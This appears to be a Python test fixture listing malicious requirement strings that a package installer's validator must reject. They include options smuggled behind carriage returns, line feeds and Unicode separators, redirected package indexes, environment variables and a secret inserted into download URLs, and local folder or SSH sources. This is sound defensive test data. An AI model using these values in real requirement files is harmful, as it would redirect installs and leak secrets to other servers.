"""Requirements that nobody may hand to an installer, whichever door they come in by: what each one would have done."""

SECRET = "s3cr3t-of-the-operator"

# {url}: the address of a server that must not be asked; {file}: a file with SECRET in it; {folder}: one with a setup.py
BAD = {
    "the address of a source": "evil @ {url}/files/evil-1.0.tar.gz",
    "a folder": "{folder}",
    "a folder by its address": "evil @ file://{folder}",
    "an option behind a carriage return": "six==1.17.0\r-r {file}",
    "another index behind a carriage return": "six==1.17.0\r--index-url {url}/simple",
    "a variable in an address": "six @ {url}/${{LMD_TEST_SECRET}}/six-1.17.0-py3-none-any.whl",
    "a variable": "${{HOME}}",
    "a repository": "x @ git+ssh://127.0.0.1:9/x",
    "an option behind a line feed": "six\n-r {file}",
    "an option behind a form feed": "six\f-r {file}",
    "an option behind U+0085": "six\x85-r {file}",
    "an option behind U+2028": "six\u2028-r {file}",
    "a NUL": "six\x00",
    "a tab": "six\t--index-url {url}/simple",
    "an option behind a blank": "six --index-url {url}/simple",
    "a line that goes on": "six \\",
    "a file's name": "evil-1.0.tar.gz",
    "a file's name with an extra": "evil-1.0-py3-none-any.whl[x]",
    "a file's name with a marker": 'evil-1.0.tar.gz ; python_version < "4"',
    "a file's name with a version": "evil.zip>=1",
    "a file's name with an extra and a marker": 'evil.tar.gz[x];python_version<"4"',
    "a variable without braces": "six @ {url}/$LMD_TEST_SECRET/six-1.17.0-py3-none-any.whl",
    "a query": "six @ {url}/six-1.17.0-py3-none-any.whl?token={secret}",
    "a folder of an address": "six @ {url}/files/six-1.17.0-py3-none-any.whl#subdirectory=x",
    "another package's wheel": "six @ {url}/files/evil-1.0-py3-none-any.whl",
    "a login": "six @ http://alice:{secret}@127.0.0.1:9/six-1.17.0-py3-none-any.whl",
    "an option in a version": "six===--index-url={url}/simple",
    "an option in a marker": 'six ; platform_version == "a --index-url {url}/simple"',
    "a comment in a marker": 'six ; platform_version == "a #"',
    "nothing": "",
}


def filled_in(text: str, url: str = "http://127.0.0.1:9", file: str = "/etc/x", folder: str = "/etc") -> str:
    return text.format(url=url, file=file, folder=folder, secret=SECRET)
